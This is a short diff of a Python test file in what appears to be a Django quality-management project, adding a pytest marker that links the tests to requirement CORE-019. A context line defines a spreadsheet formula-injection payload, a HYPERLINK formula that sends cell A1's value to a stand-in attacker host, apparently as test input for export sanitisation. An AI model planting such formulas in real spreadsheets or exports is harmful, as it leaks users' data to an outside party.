@@ -10,6 +10,8 @@ from django.db import transaction
 from openqms.core import audit, spreadsheet
 from openqms.training import export
 
+pytestmark = pytest.mark.verifies("CORE-019")
+
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 
